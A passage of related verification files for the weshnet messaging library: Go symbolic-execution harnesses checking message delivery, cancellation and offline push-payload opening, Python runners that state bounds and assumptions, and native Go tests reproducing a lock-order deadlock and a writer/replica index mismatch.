	size, _ := m.CacheSizeForDevicePK(w.sndRaw)
	verif_assert(size == 0, "C08: nothing stays parked in the device cache at quiescence")
	verif_reach("C08.keyfirst.quiescent")
}

// VerifC08Cancel: cancellation ends the loop (no goroutine of the store stays behind), whatever was in flight.
func VerifC08Cancel(n int) {
	w := c08Setup(n)
	m := w.store
	verif_assume(w.rcv.RegisterChainKey(w.ctx, w.g, w.sndDev, w.enc) == nil)
	done := false
	verif_go("loop", func() { m.processMessageLoop(w.ctx, w.tracer); done = true })
	verif_go("arrive", func() {
		for i := 0; i < n; i++ {
			_ = m.addToMessageQueue(w.ctx, w.entries[i])
		}
	})
	verif_go("cancel", func() { w.cancel() })
	verif_quiesce()
	verif_assert(done, "C08: after cancellation the consumer loop has returned")
	for i := 0; i < n; i++ {
		verif_assert(w.delivered(i) <= 1, "C08: at most one delivery per arrival")
	}
	verif_reach("C08.cancel.quiescent")
}
