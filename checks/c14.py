#!/usr/bin/env python3
"""C14: push payloads open offline to the right message without disturbing the log path."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *
from wesym.contracts import crypto
import c01, c02


def main():
    t = tier()
    chk = Check('C14', c01.PKGS, 'pkg/secretstore',
                ['secretstore/zz_verif_env.go', 'secretstore/zz_verif_rand.go', 'C14/zz_verif_c14.go'],
                installers=[crypto.install, crypto.install_proto, c02.install], init_pkgs=[MOD + '/pkg/errcode'], prelude_pkgname='secretstore')
    P = MOD + '/pkg/secretstore.'
    chk.load([P + n for n in ('VerifC14Push', 'VerifC14Tamper', 'VerifC14Slide', 'VerifC14TwoSenders', 'VerifC14Witness')])
    cfg = {'timeout_ms': 60000, 'unwind': 16, 'dec_as_term': True}
    jobs = []
    for order in range(4):
        for k in ((1, 2, 3) if t == 'quick' else (1, 2, 3, 4)):
            jobs.append(Job(P + 'VerifC14Push', (order, k), cfg=cfg))
    for j in ((0, 1, 2, 3) if t == 'quick' else (0, 1, 2, 3, 4, 5)):
        jobs.append(Job(P + 'VerifC14Slide', (j,), cfg=cfg))
    for j in ((0, 4) if t == 'quick' else (0, 3, 4, 5)):
        jobs.append(Job(P + 'VerifC14TwoSenders', (j,), cfg=cfg))
    jobs.append(Job(P + 'VerifC14Tamper', (), cfg=cfg))
    jobs.append(Job(P + 'VerifC14Witness', (), witness=True, cfg=cfg))
    res = chk.run_jobs(jobs)
    finish(chk, res, t,
           explanation='Symbolic execution of SealOutOfStoreMessageEnvelope / OpenOutOfStoreMessage / decryptOutOfStoreMessageEnv / '
                       'OutOfStoreMessageOpen / OutOfStoreGetGroupPublicKeyByGroupReference / UpdateOutOfStoreGroupReferences / '
                       'createOutOfStoreGroupReference / PutGroup / FetchGroupByPublicKey together with the log path of C01/C02, over the term '
                       'algebra: every order of push and log delivery of the same message (push-log, log-push, push-push-log, log-push-log), '
                       'counters inside and beyond the key/reference window, INT-CTXT tamper rejection.',
           bounds={'window_N': 2, 'reference_window_R': 1, 'message_counter_k': '1..3 (quick) / 1..4 (thorough)', 'orders': 4,
                   'outside': 'HKDF-SHA3 hint collisions (free algebra); several groups/senders; default windows of 100'},
           assumptions=['term algebra', 'INT-CTXT for the group secret in the tamper harness', 'CIDs of distinct entries distinct'],
           trusted=['go/ssa lowering', 'wesym interpreter + contracts', 'z3 5.1.0 (+cross-check)'])


if __name__ == '__main__':
    main()
