package secretstore

import (
	"google.golang.org/protobuf/proto"

	"berty.tech/weshnet/v2/pkg/protocoltypes"
)

// VerifC14Push: a push payload for message k opens offline to the original payload, sender, counter and group,
// reports truthfully whether the message was already received through the log, and neither path disturbs the other.
// order: 0 push,log   1 log,push   2 push,push,log   3 log,push,log
func VerifC14Push(order, k int) {
	ctx := verif_background()
	snd := verifNewStore("snd", 2)
	rcv := verifNewStore("rcv", 2)
	g := verifGroup(snd, rcv, 3)
	gpk, err := g.GetPubKey()
	verif_assume(err == nil)
	verif_assume(rcv.PutGroup(ctx, g) == nil)
	sndMD, rcvMD := verifLink(ctx, snd, rcv, g)
	devRaw, _ := sndMD.Device().Raw()

	var env []byte
	var pay []byte
	for i := 1; i <= k; i++ {
		plain := verif_anyBytesNonNil("plain")
		pay, _ = proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: plain})
		env, err = snd.SealEnvelope(ctx, g, pay)
		verif_assume(err == nil)
	}
	e, h, err := rcv.OpenEnvelopeHeaders(env, g)
	verif_assume(err == nil)
	id := verif_cidN(k)
	oos, err := snd.SealOutOfStoreMessageEnvelope(id, e, h, g)
	verif_assert(err == nil, "C14: push payload is sealed")
	if err != nil {
		return
	}
	push, err := proto.Marshal(oos)
	verif_assume(err == nil)

	logOpened := false
	doPush := func() {
		m, grp, clear, already, err := rcv.OpenOutOfStoreMessage(ctx, push)
		// openable through the log at this moment (window 2, nothing else opened) and reference window R=1 around the
		// last counter seen (registration: counter 2 => references for counters 1 and 2)
		inWindow := k >= 1 && k <= 2
		if !inWindow && !logOpened {
			verif_assert(err != nil, "C14: a message outside the key/reference window is refused")
			return
		}
		verif_assert(err == nil, "C14: push payload opens offline")
		if err != nil {
			return
		}
		verif_assert(verif_bytesEq(clear, pay), "C14: opens to the original payload")
		verif_assert(m.Counter == uint64(k) && verif_bytesEq(m.DevicePk, devRaw), "C14: reports sender device and counter")
		verif_assert(grp != nil && verif_bytesEq(grp.PublicKey, g.PublicKey), "C14: reports the group")
		verif_assert(already == logOpened, "C14: AlreadyReceived is true exactly when the log path opened the message before")
	}
	doLog := func() {
		msg, err := rcv.OpenEnvelopePayload(ctx, e, h, gpk, rcvMD.Device(), id)
		inWindow := k >= 1 && k <= 2
		if !inWindow && !logOpened {
			verif_assert(err != nil, "C14: log path refuses a message outside the window")
			return
		}
		verif_assert(err == nil, "C14: the log path still opens the message")
		if err == nil {
			var em protocoltypes.EncryptedMessage
			_ = proto.Unmarshal(pay, &em)
			verif_assert(verif_bytesEq(msg.Plaintext, em.Plaintext), "C14: log path returns the original payload")
			logOpened = true
		}
	}
	switch order {
	case 0:
		doPush()
		doLog()
	case 1:
		doLog()
		doPush()
	case 2:
		doPush()
		doPush()
		doLog()
	default:
		doLog()
		doPush()
		doLog()
	}
	verif_reach("C14.push.ok")
}

// VerifC14Tamper: with the group secret secret (INT-CTXT) an accepted push payload carries the honest box; an
// unknown group reference is refused.
func VerifC14Tamper() {
	ctx := verif_background()
	snd := verifNewStore("snd", 2)
	rcv := verifNewStore("rcv", 2)
	g := verifGroup(snd, rcv, 3)
	verif_assume(rcv.PutGroup(ctx, g) == nil)
	verifLink(ctx, snd, rcv, g)
	verif_secretSymKey(g.GetSecret())
	plain := verif_anyBytesNonNil("plain")
	pay, _ := proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: plain})
	env, err := snd.SealEnvelope(ctx, g, pay)
	verif_assume(err == nil)
	e, h, err := rcv.OpenEnvelopeHeaders(env, g)
	verif_assume(err == nil)
	oos, err := snd.SealOutOfStoreMessageEnvelope(verif_cidN(1), e, h, g)
	verif_assume(err == nil)

	forged := verif_anyBytesNonNil("forged-push")
	m, _, clear, _, err := rcv.OpenOutOfStoreMessage(ctx, forged)
	if err != nil {
		return
	}
	fe := &protocoltypes.OutOfStoreMessageEnvelope{}
	verif_assume(proto.Unmarshal(forged, fe) == nil)
	verif_assert(verif_bytesEq(fe.Box, oos.Box) && verif_bytesEq(fe.Nonce, oos.Nonce), "C14.tamper: accepted push carries the honest box and nonce")
	verif_assert(verif_bytesEq(clear, pay) && m.Counter == 1, "C14.tamper: and opens to the honest message")
	verif_reach("C14.tamper.accepted")
}

// VerifC14Slide: the reference window follows the log. Key window 2 and reference window R = 2 on each side (equal, as
// the defaults 100 / 100 are: at registration the references are computed around the counter AFTER the key window). The receiver
// registers the sender at counter 0, then receives messages 1..j through the log in order, updating the references after
// each one as MessageStore.processMessage does. A push payload for message k -- any k strictly inside the reference
// window around the last counter seen (j-2 < k < j+2) that is openable through the log at that moment -- opens offline to
// the original payload, and says truthfully whether the log delivered it before.
func VerifC14Slide(j int) {
	ctx := verif_background()
	mk := func(name string) *secretStore {
		s, err := newSecretStore(verif_datastore(name), &NewSecretStoreOptions{Keystore: verifKeystore(name), PreComputedKeysCount: 2, PrecomputeOutOfStoreGroupRefsCount: 2})
		verif_assume(err == nil && s != nil)
		return s
	}
	snd, rcv := mk("snd"), mk("rcv")
	g := verifGroup(snd, rcv, 3)
	gpk, err := g.GetPubKey()
	verif_assume(err == nil)
	verif_assume(rcv.PutGroup(ctx, g) == nil)
	sndMD, rcvMD := verifLink(ctx, snd, rcv, g)
	devRaw, _ := sndMD.Device().Raw()
	total := j + 1
	envs := make([][]byte, total+1)
	pays := make([][]byte, total+1)
	for i := 1; i <= total; i++ {
		pays[i], _ = proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: verif_anyBytesNonNil("plain")})
		envs[i], err = snd.SealEnvelope(ctx, g, pays[i])
		verif_assume(err == nil)
	}
	for i := 1; i <= j; i++ {
		e, h, err := rcv.OpenEnvelopeHeaders(envs[i], g)
		verif_assume(err == nil)
		_, err = rcv.OpenEnvelopePayload(ctx, e, h, gpk, rcvMD.Device(), verif_cidN(i))
		verif_assert(err == nil, "C14.slide: in-order log delivery opens")
		verif_assert(rcv.UpdateOutOfStoreGroupReferences(ctx, h.DevicePk, h.Counter, g) == nil, "C14.slide: references follow the log")
	}
	k := verif_anyInt("k")
	verif_assume(k >= 1 && k <= total && k > j-2 && k < j+2)
	e, h, err := rcv.OpenEnvelopeHeaders(envs[k], g)
	verif_assume(err == nil)
	oos, err := snd.SealOutOfStoreMessageEnvelope(verif_cidN(k), e, h, g)
	verif_assert(err == nil, "C14.slide: push payload is sealed")
	if err != nil {
		return
	}
	push, err := proto.Marshal(oos)
	verif_assume(err == nil)
	m, grp, clear, already, err := rcv.OpenOutOfStoreMessage(ctx, push)
	verif_assert(err == nil, "C14.slide: a push for a message inside the reference window around the last counter seen opens offline")
	if err != nil {
		return
	}
	verif_assert(verif_bytesEq(clear, pays[k]), "C14.slide: opens to the original payload")
	verif_assert(m.Counter == uint64(k) && verif_bytesEq(m.DevicePk, devRaw), "C14.slide: reports sender device and counter")
	verif_assert(grp != nil && verif_bytesEq(grp.PublicKey, g.PublicKey), "C14.slide: reports the group")
	verif_assert(already == (k <= j), "C14.slide: AlreadyReceived is true exactly when the log path opened the message before")
	verif_reach("C14.slide.ok")
}

// VerifC14TwoSenders: two senders in one group. The receiver follows sender A's log for j messages (its reference window
// slides j times); sender B has sent nothing through the log. A push of B's first message is inside B's own window and
// must open: the references kept for one sender are not disturbed by the sliding of another sender's window.
func VerifC14TwoSenders(j int) {
	ctx := verif_background()
	mk := func(name string) *secretStore {
		s, err := newSecretStore(verif_datastore(name), &NewSecretStoreOptions{Keystore: verifKeystore(name), PreComputedKeysCount: 2, PrecomputeOutOfStoreGroupRefsCount: 2})
		verif_assume(err == nil && s != nil)
		return s
	}
	a, b, rcv := mk("sndA"), mk("sndB"), mk("rcv")
	g := verifGroup(a, rcv, 3)
	gpk, err := g.GetPubKey()
	verif_assume(err == nil)
	verif_assume(rcv.PutGroup(ctx, g) == nil)
	_, rcvMD := verifLink(ctx, a, rcv, g)
	bMD, _ := verifLink(ctx, b, rcv, g)
	bRaw, _ := bMD.Device().Raw()
	for i := 1; i <= j; i++ {
		pay, _ := proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: verif_anyBytesNonNil("plainA")})
		env, err := a.SealEnvelope(ctx, g, pay)
		verif_assume(err == nil)
		e, h, err := rcv.OpenEnvelopeHeaders(env, g)
		verif_assume(err == nil)
		_, err = rcv.OpenEnvelopePayload(ctx, e, h, gpk, rcvMD.Device(), verif_cidN(i))
		verif_assert(err == nil, "C14.two: in-order log delivery of sender A opens")
		verif_assert(rcv.UpdateOutOfStoreGroupReferences(ctx, h.DevicePk, h.Counter, g) == nil, "C14.two: references follow the log")
	}
	payB, _ := proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: verif_anyBytesNonNil("plainB")})
	envB, err := b.SealEnvelope(ctx, g, payB)
	verif_assume(err == nil)
	e, h, err := rcv.OpenEnvelopeHeaders(envB, g)
	verif_assume(err == nil)
	oos, err := b.SealOutOfStoreMessageEnvelope(verif_cidN(100), e, h, g)
	verif_assume(err == nil)
	push, err := proto.Marshal(oos)
	verif_assume(err == nil)
	m, grp, clear, already, err := rcv.OpenOutOfStoreMessage(ctx, push)
	verif_assert(err == nil, "C14.two: a push of another sender's first message opens, whatever the first sender's window did")
	if err != nil {
		return
	}
	verif_assert(verif_bytesEq(clear, payB) && m.Counter == 1 && verif_bytesEq(m.DevicePk, bRaw), "C14.two: opens to the original payload, sender and counter")
	verif_assert(grp != nil && verif_bytesEq(grp.PublicKey, g.PublicKey) && !already, "C14.two: reports the group, and that the log has not delivered it")
	verif_reach("C14.two.ok")
}

func VerifC14Witness() {
	VerifC14Push(0, 1)
	verif_assert(false, "C14.witness: reachable")
}
