#!/usr/bin/env python3
"""C08: every decryptable message in the log is delivered, none stays parked (message pipeline under a symbolic schedule)."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *
from wesym.contracts import orbit
from wesym import coop
import c03


import functools


def _coop_inst(preemptions, I):
    coop.install(I, preemptions=preemptions)


def coop_installer(preemptions):
    return functools.partial(_coop_inst, preemptions)


def main():
    t = tier()
    chk = c03.root_check('C08', ['C08/zz_verif_c08.go'], extra_pkgs=[MOD + '/internal/queue', 'container/heap', 'container/list'])
    P = MOD + '.'
    chk.load([P + n for n in ('VerifC08Pipeline', 'VerifC08KeyFirst', 'VerifC08Cancel')])
    cfg = {'timeout_ms': 60000, 'unwind': 12, 'dec_as_term': True}
    jobs = []
    K = 6
    pre = 1 if t == 'quick' else 2

    def add(entry, args, p, k=K):
        for i in range(k):
            jobs.append(Job(P + entry, args, cfg=cfg, installers=[coop_installer(p)], shard=(i, k), max_paths=200000,
                            label='%s(%s)[pre<=%d]#%d/%d' % (entry, ','.join(map(str, args)), p, i, k)))
    if t == 'quick':
        add('VerifC08Pipeline', (1, 0), 1, 4)
        add('VerifC08Pipeline', (2, 0), 0, 2)
        add('VerifC08Pipeline', (3, 0), 0, 4)
        add('VerifC08KeyFirst', (2,), 0, 1)
        add('VerifC08Cancel', (1,), 1, 3)
    else:
        add('VerifC08Pipeline', (1, 0), 2, 8)
        add('VerifC08Pipeline', (2, 0), 1, 14)
        add('VerifC08Pipeline', (2, 1), 1, 14)
        add('VerifC08Pipeline', (3, 0), 0, 8)
        add('VerifC08KeyFirst', (2,), 1, 4)
        add('VerifC08KeyFirst', (3,), 0, 4)
        add('VerifC08Cancel', (1,), 2, 6)
        add('VerifC08Cancel', (2,), 1, 8)
    res = chk.run_jobs(jobs)
    finish(chk, res, t,
           explanation='Symbolic execution of the real message pipeline (MessageStore.processMessageLoop, getOrCreateDeviceCache, processMessage, '
                       'processDeviceMessagesInQueue, addToMessageQueue, ProcessMessageQueueForDevicePK, CacheSizeForDevicePK, SimpleQueue, PriorityQueue with the real '
                       'container/heap and container/list, and the secret store underneath) with the goroutine schedule a vector of solver variables: goroutines share '
                       'one symbolic heap and change hands only at synchronisation operations; which enabled goroutine moves is a fresh variable constrained to the '
                       'enabled set and forked over like any symbolic branch (engine/wesym/coop.py). Entries arrive in a free order, the chain-key announcement is '
                       'registered concurrently. Obligations at quiescence: every entry delivered, at most once per arrival, original payload and sender, nothing parked.',
           bounds={'senders': 1, 'entries': '1..2 (quick) / 1..3 (thorough)', 'duplicate_arrivals': '0 (quick) / 0..1 (thorough)',
                   'preemption_bound': 'per job, see the job labels [pre<=k]: quick 1 (one entry) / 0 (two entries); thorough 2 / 1 / 0 (three entries)', 'goroutines': 'consumer loop, arrival, registration (+canceller)',
                   'outside': 'the OrbitDB constructor and event bus (the two goroutine bodies are started by the harness); several senders; batches as one event; '
                              'schedules with more preemptions than the bound; data races (switching only at synchronisation operations assumes data-race freedom)'},
           assumptions=['sequential consistency', 'data-race freedom w.r.t. mutex/channel/context/datastore/keystore/emitter operations',
                        'Dolev-Yao term algebra for the secret store (as C01/C02)', 'log entries have pairwise distinct CIDs'],
           trusted=['go/ssa lowering', 'wesym interpreter + coop scheduler', 'contracts of Appendix B', 'z3 5.1.0 (+cross-check)'])


if __name__ == '__main__':
    main()
