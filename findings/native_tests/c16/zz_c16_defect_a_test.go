package weshnet

// Defect A: lock-order inversion between ConnectednessManager.muState and the
// per-group GroupStatus.notify.L
//
//   AssociatePeer:               muState -> notify.L
//   WaitForConnectednessChange:  notify.L -> muState (inside updateStatus)
//
// Nothing in connectedness_manager.go / internal/notify is modified; the tests
// only call the real exported methods (the deterministic variant additionally
// pre-populates m.groupState[g] with a GroupStatus whose notify.L is a
// sync.Locker that delays *inside* Lock(), which is indistinguishable from the
// goroutine being preempted right after sync.Mutex.Lock returned).

import (
	"context"
	"fmt"
	"os"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	peer "github.com/libp2p/go-libp2p/core/peer"

	"berty.tech/weshnet/v2/internal/notify"
)

func c16EnvInt(name string, def int) int {
	if v := os.Getenv(name); v != "" {
		if n, err := strconv.Atoi(v); err == nil {
			return n
		}
	}
	return def
}

// c16Goroutines returns the stack blocks of all goroutines whose stack
// mentions `needle`.
func c16Goroutines(needle string) []string {
	buf := make([]byte, 16<<20)
	n := runtime.Stack(buf, true)
	var out []string
	for _, blk := range strings.Split(string(buf[:n]), "\n\n") {
		if strings.Contains(blk, needle) {
			out = append(out, blk)
		}
	}
	return out
}

// waitBoth waits for the two done channels; returns false on timeout
func c16WaitBoth(a, b <-chan struct{}, d time.Duration) bool {
	to := time.After(d)
	for a != nil || b != nil {
		select {
		case <-a:
			a = nil
		case <-b:
			b = nil
		case <-to:
			return false
		}
	}
	return true
}

// ---------------------------------------------------------------------------
// A.1 deterministic: forces the schedule
//    waiter:     L.Lock()            (acquired)
//    associator: muState.Lock()      (acquired)
//    associator: L.Lock()            (blocks: held by waiter)
//    waiter:     muState.Lock()      (blocks: held by associator)   => ABBA
// ---------------------------------------------------------------------------

type c16HookLocker struct {
	mu            sync.Mutex
	calls         int32
	firstHeld     chan struct{} // closed when Lock #1 owns mu
	secondArrived chan struct{} // closed when Lock #2 is about to block on mu
}

func (l *c16HookLocker) Lock() {
	switch atomic.AddInt32(&l.calls, 1) {
	case 1: // the waiter (WaitForConnectednessChange: sg.notify.L.Lock())
		l.mu.Lock()
		close(l.firstHeld)
		<-l.secondArrived // "preempted" right after acquiring L
		time.Sleep(20 * time.Millisecond)
	case 2: // the associator (AssociatePeer: sg.notify.L.Lock(), muState is held)
		close(l.secondArrived)
		l.mu.Lock()
	default:
		l.mu.Lock()
	}
}

func (l *c16HookLocker) Unlock() { l.mu.Unlock() }

func TestC16DefectA_Deterministic(t *testing.T) {
	m := NewConnectednessManager()
	const g = "group"

	hl := &c16HookLocker{firstHeld: make(chan struct{}), secondArrived: make(chan struct{})}
	// same shape as what getGroupStatus() builds, only the Locker differs
	m.groupState[g] = &GroupStatus{
		peers:  make(map[peer.ID]*PeerStatus),
		notify: notify.New(hl),
	}

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	waiterDone := make(chan struct{})
	assocDone := make(chan struct{})

	go func() {
		defer close(waiterDone)
		m.WaitForConnectednessChange(ctx, g, PeersConnectedness{})
	}()
	<-hl.firstHeld // waiter owns L
	go func() {
		defer close(assocDone)
		m.AssociatePeer(g, peer.ID("p-new"))
	}()

	time.Sleep(300 * time.Millisecond)
	cancel()
	if c16WaitBoth(waiterDone, assocDone, 2*time.Second) {
		t.Log("no deadlock: both goroutines returned")
		return
	}

	// is muState really stuck?  A third, unrelated call must hang too.
	third := make(chan struct{})
	go func() { m.UpdateState(peer.ID("unrelated"), ConnectednessTypeConnected); close(third) }()
	thirdHung := false
	select {
	case <-third:
	case <-time.After(500 * time.Millisecond):
		thirdHung = true
	}

	for _, blk := range c16Goroutines("ConnectednessManager") {
		t.Logf("blocked goroutine:\n%s\n", blk)
	}
	t.Errorf("DEADLOCK (deterministic): waiter and associator still blocked 2s after ctx cancel; unrelated UpdateState hung too: %v", thirdHung)
}

// ---------------------------------------------------------------------------
// A.2 stress on the unmodified code path (plain sync.Mutex created by
// getGroupStatus).  C16_MODE=loop (default): the waiter re-enters
// WaitForConnectednessChange until ctx is cancelled and the associator adds
// C16_K fresh peers (AssociatePeer + UpdateState each).
// C16_MODE=single: exactly one WaitForConnectednessChange call and exactly one
// AssociatePeer+UpdateState per iteration.
// ---------------------------------------------------------------------------

func TestC16DefectA_Stress(t *testing.T) {
	iters := c16EnvInt("C16_ITERS", 20000)
	k := c16EnvInt("C16_K", 50)
	maxHangs := c16EnvInt("C16_MAXHANGS", 5)
	single := os.Getenv("C16_MODE") == "single"
	if single {
		k = 1
	}
	t.Logf("GOMAXPROCS=%d NumCPU=%d iters=%d k=%d single=%v", runtime.GOMAXPROCS(0), runtime.NumCPU(), iters, k, single)

	spinYield := runtime.GOMAXPROCS(0) < 3
	hangs := 0
	var hangIters []int
	done := 0
	for i := 0; i < iters && hangs < maxHangs; i++ {
		done++
		m := NewConnectednessManager()
		const g = "group"
		p0 := peer.ID("p0")
		m.AssociatePeer(g, p0)
		current := PeersConnectedness{p0: ConnectednessTypeDisconnected}

		ctx, cancel := context.WithCancel(context.Background())
		var gate atomic.Int32
		waiterDone := make(chan struct{})
		assocDone := make(chan struct{})

		go func() {
			defer close(waiterDone)
			gate.Add(1)
			for gate.Load() < 3 {
				if spinYield {
					runtime.Gosched()
				}
			}
			if single {
				m.WaitForConnectednessChange(ctx, g, current)
				return
			}
			for ctx.Err() == nil {
				m.WaitForConnectednessChange(ctx, g, current)
			}
		}()
		go func() {
			defer close(assocDone)
			gate.Add(1)
			for gate.Load() < 3 {
				if spinYield {
					runtime.Gosched()
				}
			}
			for j := 0; j < k; j++ {
				p := peer.ID(fmt.Sprintf("p-%d-%d", i, j))
				m.AssociatePeer(g, p)
				m.UpdateState(p, ConnectednessTypeConnected)
			}
		}()
		for gate.Load() < 2 {
			runtime.Gosched()
		}
		gate.Add(1)

		// without the defect the associator always terminates on its own
		select {
		case <-assocDone:
		case <-time.After(time.Second):
		}
		cancel()
		if c16WaitBoth(waiterDone, assocDone, time.Second) {
			continue
		}
		hangs++
		hangIters = append(hangIters, i)
		if hangs == 1 {
			for _, blk := range c16Goroutines("ConnectednessManager") {
				t.Logf("iteration %d: blocked goroutine:\n%s\n", i, blk)
			}
		}
	}
	t.Logf("RESULT defect A stress: %d hangs in %d iterations (hang at iterations %v)", hangs, done, hangIters)
	if hangs > 0 {
		t.Errorf("DEADLOCK reproduced %d times in %d iterations", hangs, done)
	}
}
