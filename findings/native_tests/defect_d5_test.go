package weshnet

import (
	"context"
	crand "crypto/rand"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/libp2p/go-libp2p/core/crypto"
	"github.com/stretchr/testify/require"

	ipfslog "berty.tech/go-ipfs-log"
	"berty.tech/weshnet/v2/pkg/protocoltypes"
)

func d5short(s string) string {
	if len(s) > 6 {
		return s[len(s)-6:]
	}
	return s
}

// d5Describe returns "hash6:EventType(clock)" for each entry of the slice
func d5Describe(t *testing.T, ms *MetadataStore, entries []ipfslog.Entry) string {
	out := []string{}
	for _, e := range entries {
		typ := "?"
		if ev, _, err := openMetadataEntry(ms.OpLog(), e, ms.group); err == nil {
			typ = strings.TrimPrefix(ev.Metadata.EventType.String(), "EventType")
		}
		out = append(out, fmt.Sprintf("%s:%s(t=%d)", d5short(e.GetHash().String()), typ, e.GetClock().GetTime()))
	}
	return strings.Join(out, "\n        ")
}

func d5ListEvents(t *testing.T, ctx context.Context, ms *MetadataStore, reverse bool) string {
	ch, err := ms.ListEvents(ctx, nil, nil, reverse)
	require.NoError(t, err)
	out := []string{}
	for ev := range ch {
		out = append(out, strings.TrimPrefix(ev.Metadata.EventType.String(), "EventType"))
	}
	return strings.Join(out, " , ")
}

func d5State(ms *MetadataStore, contactPK []byte, g1 *protocoltypes.Group) string {
	cs := "absent"
	if c, ok := ms.ListContacts()[string(contactPK)]; ok {
		cs = c.state.String()
	}
	joined := false
	for _, g := range ms.ListMultiMemberGroups() {
		if string(g.PublicKey) == string(g1.PublicKey) {
			joined = true
		}
	}
	en, _ := ms.GetIncomingContactRequestsStatus()
	return fmt.Sprintf("contactState=%s g1Joined=%v contactRequestEnabled=%v", cs, joined, en)
}

func TestD5_OrderWriterVsReplica(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()

	// one account, two devices
	peers, _, cleanup := CreatePeersWithGroupTest(ctx, t, "/tmp/d5_test", 1, 2)
	defer cleanup()
	api := ipfsAPIUsingMockNet(ctx, t)

	// ---- writer: device 0
	cgW, err := peers[0].DB.openAccountGroup(ctx, nil, api)
	require.NoError(t, err)
	w := cgW.MetadataStore()

	_, contactPub, err := crypto.GenerateEd25519Key(crand.Reader)
	require.NoError(t, err)
	contactPK, _ := contactPub.Raw()
	g1, _, err := NewGroupMultiMember()
	require.NoError(t, err)
	g1PK, _ := g1.GetPubKey()

	// e1..e3 about the same contact, then join/leave of the same group, then enable/disable
	_, err = w.ContactRequestOutgoingEnqueue(ctx, &protocoltypes.ShareableContact{Pk: contactPK, PublicRendezvousSeed: make([]byte, 32)}, []byte("own"))
	require.NoError(t, err)
	_, err = w.ContactBlock(ctx, contactPub)
	require.NoError(t, err)
	_, err = w.ContactUnblock(ctx, contactPub)
	require.NoError(t, err)
	_, err = w.GroupJoin(ctx, g1)
	require.NoError(t, err)
	_, err = w.GroupLeave(ctx, g1PK)
	require.NoError(t, err)
	_, err = w.ContactRequestEnable(ctx)
	require.NoError(t, err)
	_, err = w.ContactRequestDisable(ctx)
	require.NoError(t, err)

	wSnap := w.OpLog().GetEntries() // copy of the writer's entries at this point
	nW := wSnap.Len()
	t.Logf("WRITER   GetEntries().Slice():\n        %s", d5Describe(t, w, w.OpLog().GetEntries().Slice()))
	t.Logf("WRITER   Values().Slice():\n        %s", d5Describe(t, w, w.OpLog().Values().Slice()))
	lw := d5ListEvents(t, ctx, w, false)
	lwr := d5ListEvents(t, ctx, w, true)
	t.Logf("WRITER   ListEvents(reverse=false): %s", lw)
	t.Logf("WRITER   ListEvents(reverse=true) : %s", lwr)
	sw := d5State(w, contactPK, g1)
	t.Logf("WRITER   index: %s", sw)

	// ---- replica: device 1 of the same account opens the account group only now,
	// so it receives the whole log via head exchange / one Join
	cgR, err := peers[1].DB.openAccountGroup(ctx, nil, api)
	require.NoError(t, err)
	r := cgR.MetadataStore()

	deadline := time.Now().Add(30 * time.Second)
	for time.Now().Before(deadline) {
		have := 0
		for _, e := range wSnap.Slice() {
			if _, ok := r.OpLog().GetEntries().Get(e.GetHash().String()); ok {
				have++
			}
		}
		if have == nW {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	time.Sleep(500 * time.Millisecond) // let the index update settle

	// only look at the entries authored by the writer (the replica adds its own device event)
	rEntries := []ipfslog.Entry{}
	for _, e := range r.OpLog().GetEntries().Slice() {
		if _, ok := wSnap.Get(e.GetHash().String()); ok {
			rEntries = append(rEntries, e)
		}
	}
	require.Equal(t, nW, len(rEntries), "replica did not receive all the writer's entries")

	t.Logf("REPLICA  GetEntries().Slice() (all %d entries):\n        %s", r.OpLog().Len(), d5Describe(t, r, r.OpLog().GetEntries().Slice()))
	t.Logf("REPLICA  Values().Slice():\n        %s", d5Describe(t, r, r.OpLog().Values().Slice()))
	lr := d5ListEvents(t, ctx, r, false)
	lrr := d5ListEvents(t, ctx, r, true)
	t.Logf("REPLICA  ListEvents(reverse=false): %s", lr)
	t.Logf("REPLICA  ListEvents(reverse=true) : %s", lrr)
	sr := d5State(r, contactPK, g1)
	t.Logf("REPLICA  index: %s", sr)

	if sw != sr {
		t.Errorf("DEFECT: index state differs between writer and replica of the same log:\n   writer : %s\n   replica: %s", sw, sr)
	}
}
