package secretstore

import (
	"google.golang.org/protobuf/proto"

	"berty.tech/weshnet/v2/pkg/protocoltypes"
)


// VerifC02Bounded: the sender seals `pre` messages, announces its chain key (counter c = pre), seals n more;
// the receiver (window N) registers the announcement and then sees L arrivals, each a FREE choice among all
// pre+n envelopes (so permutations and duplicates are one formula); at position `rereg` (if < L) the same
// announcement -- and an older one taken at counter 0 -- is delivered again.
// Oracle: an arrival of the message with counter k opens iff it was opened before (found by CID) or
// c < k <= c + N + (#messages opened so far); every successful open returns the original payload.
func VerifC02Bounded(window, pre, n, arrivals, rereg int) {
	ctx := verif_background()
	snd := verifNewStore("snd", window)
	rcv := verifNewStore("rcv", window)
	g := verifGroup(snd, rcv, 3)
	gpk, err := g.GetPubKey()
	verif_assume(err == nil)
	sndMD, err := snd.deviceKeystore.memberDeviceForGroup(g)
	verif_assume(err == nil)
	rcvMD, err := rcv.deviceKeystore.memberDeviceForGroup(g)
	verif_assume(err == nil)

	total := pre + n
	envs := make([][]byte, total)
	plains := make([][]byte, total)
	seal := func(i int) {
		plains[i] = verif_anyBytesNonNil("plain")
		pay, _ := proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: plains[i]})
		e, err := snd.SealEnvelope(ctx, g, pay)
		verif_assume(err == nil)
		envs[i] = e
	}
	old, err := snd.GetShareableChainKey(ctx, g, rcvMD.Member()) // announcement at counter 0
	verif_assume(err == nil)
	for i := 0; i < pre; i++ {
		seal(i)
	}
	enc, err := snd.GetShareableChainKey(ctx, g, rcvMD.Member()) // announcement at counter c = pre
	verif_assume(err == nil)
	for i := pre; i < total; i++ {
		seal(i)
	}
	verif_assume(rcv.RegisterChainKey(ctx, g, sndMD.Device(), enc) == nil)

	c := uint64(pre)
	opened := make([]bool, total)
